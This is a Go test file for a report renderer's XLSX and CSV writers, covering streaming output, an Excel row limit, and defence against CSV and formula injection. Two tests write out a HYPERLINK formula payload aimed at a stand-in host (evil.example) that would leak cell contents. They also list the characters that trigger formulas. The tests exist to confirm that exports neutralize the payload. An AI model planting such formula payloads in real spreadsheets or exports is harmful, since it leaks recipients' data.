package render

import (
	"bytes"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/almoner/almoner/pkg/apperr"
	"github.com/almoner/almoner/services/reports/store"
)

var testCols = []store.Column{
	{Key: "Day", Label: "Day", Type: store.Date},
	{Key: "Name", Label: "Name", Type: store.String},
	{Key: "Currency", Label: "Currency", Type: store.String},
	{Key: "Amount", Label: "Amount", Type: store.Decimal, Sum: true},
}

func testRow(i int64) store.Row {
	return store.Row{time.Date(2026, 1, int(i), 0, 0, 0, 0, time.UTC), "Zoë 王, \"x\"", "USD", 100 * i}
}

// TestXLSXStreamsItsZip writes a sheet through the writer, whose zip goes
// straight to the output (not through excelize's in-memory buffer), and
// reads it back.
func TestXLSXStreamsItsZip(t *testing.T) {
	var out bytes.Buffer
	w, err := NewWriter("xlsx", NewTable("T", testCols), Meta{}, &out)
	if err != nil {
		t.Fatal(err)
	}
	for i := int64(1); i <= 3; i++ {
		if err := w.Row(testRow(i)); err != nil {
			t.Fatal(err)
		}
	}
	if out.Len() != 0 {
		t.Errorf("%d bytes written before Close: a refusal could no longer be a problem document", out.Len())
	}
	if err := w.Close([]store.Totals{{Currency: "USD", Row: store.Row{nil, nil, "USD", int64(600)}}}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(out.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows("Sheet1")
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"Day", "Name", "Currency", "Amount"}, {"01-01-26", "Zoë 王, \"x\"", "USD", "1.00"}, {"01-02-26", "Zoë 王, \"x\"", "USD", "2.00"},
		{"01-03-26", "Zoë 王, \"x\"", "USD", "3.00"}, {"Total", "", "USD", "6.00"}}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("rows %q, want %q", rows, want)
	}
}

// TestXLSXRowLimit refuses a report longer than a sheet with a typed 422,
// before anything is written.
func TestXLSXRowLimit(t *testing.T) {
	defer func(n int) { MaxXLSXRows = n }(MaxXLSXRows)
	MaxXLSXRows = 4 // the header, two rows and the total
	for _, rows := range []int64{3, 4} {
		var out bytes.Buffer
		w, err := NewWriter("xlsx", NewTable("T", testCols), Meta{}, &out)
		if err != nil {
			t.Fatal(err)
		}
		for i := int64(1); i <= rows && err == nil; i++ {
			err = w.Row(testRow(i))
		}
		if err == nil {
			err = w.Close([]store.Totals{{Currency: "USD", Row: store.Row{nil, nil, "USD", int64(1)}}})
		} else {
			w.Abort()
		}
		var ae *apperr.Error
		if !errors.As(err, &ae) || ae.Kind != apperr.KindUnprocessable || ae.Code != "Report.TooLargeForExcel" || out.Len() != 0 {
			t.Errorf("%d rows: err %v, %d bytes written; want Report.TooLargeForExcel and nothing written", rows, err, out.Len())
		}
	}
}

// formulaLeads are the first characters that make a spreadsheet run a
// cell as a formula (OWASP, CSV injection).
var formulaLeads = []string{"=", "+", "-", "@", "\t", "\r"}

// TestCSVNeutralizesFormulas: a donor's name starting with any formula
// character is exported quoted with a leading single quote, so the
// spreadsheet shows text; other names, and amounts (a negative one
// included), are written as they are.
func TestCSVNeutralizesFormulas(t *testing.T) {
	for _, lead := range formulaLeads {
		name := lead + `HYPERLINK("https://evil.example/?x="&A1,"Click")`
		var out bytes.Buffer
		w, err := NewWriter("csv", NewTable("T", testCols), Meta{}, &out)
		if err != nil {
			t.Fatal(err)
		}
		day := time.Date(2026, 1, 2, 0, 0, 0, 0, time.UTC)
		for _, r := range []store.Row{{day, name, "USD", int64(-500)}, {day, "-", "USD", int64(100)}, {day, "Ann", "USD", int64(0)}} {
			if err := w.Row(r); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close([]store.Totals{{Currency: "USD", Row: store.Row{nil, nil, "USD", int64(-400)}}}); err != nil {
			t.Fatal(err)
		}
		rec, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
		if err != nil {
			t.Fatalf("%q: %v\n%s", lead, err, out.Bytes())
		}
		want := [][]string{{"Day", "Name", "Currency", "Amount"}, {"2026-01-02", "'" + name, "USD", "-5.00"},
			{"2026-01-02", "'-", "USD", "1.00"}, {"2026-01-02", "Ann", "USD", "0.00"}, {"Total", "", "USD", "-4.00"}}
		if !reflect.DeepEqual(rec, want) {
			t.Errorf("%q: records %q, want %q", lead, rec, want)
		}
		// The neutralized cell is quoted on the wire; the amount is bare.
		if line := strings.Split(out.String(), "\n")[1]; !strings.HasPrefix(line, `2026-01-02,"'`+lead) || !strings.HasSuffix(line, ",USD,-5.00") {
			t.Errorf("%q: line %q", lead, line)
		}
	}
}

// TestXLSXWritesFormulaTextAsText: the same names in an Excel file are
// string cells with no formula, in the text number format, holding the
// name unchanged; amounts stay numbers, a negative one too.
func TestXLSXWritesFormulaTextAsText(t *testing.T) {
	for _, lead := range formulaLeads {
		name := lead + `HYPERLINK("https://evil.example/","Click")`
		var out bytes.Buffer
		w, err := NewWriter("xlsx", NewTable("T", testCols), Meta{}, &out)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Row(store.Row{time.Date(2026, 1, 2, 0, 0, 0, 0, time.UTC), name, "USD", int64(-500)}); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(nil); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(out.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		typ, _ := f.GetCellType("Sheet1", "B2")
		formula, _ := f.GetCellFormula("Sheet1", "B2")
		value, _ := f.GetCellValue("Sheet1", "B2", excelize.Options{RawCellValue: true})
		if typ != excelize.CellTypeInlineString || formula != "" || value != name {
			t.Errorf("%q: name cell type %v, formula %q, value %q; want an inline string %q", lead, typ, formula, value, name)
		}
		styleID, _ := f.GetCellStyle("Sheet1", "B2")
		if st, err := f.GetStyle(styleID); err != nil || st.NumFmt != 49 {
			t.Errorf("%q: name cell style %+v (%v), want the text format 49", lead, st, err)
		}
		typ, _ = f.GetCellType("Sheet1", "D2")
		amount, _ := f.GetCellValue("Sheet1", "D2", excelize.Options{RawCellValue: true})
		if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber || amount != "-5" {
			t.Errorf("%q: amount cell type %v value %q, want the number -5", lead, typ, amount)
		}
	}
}
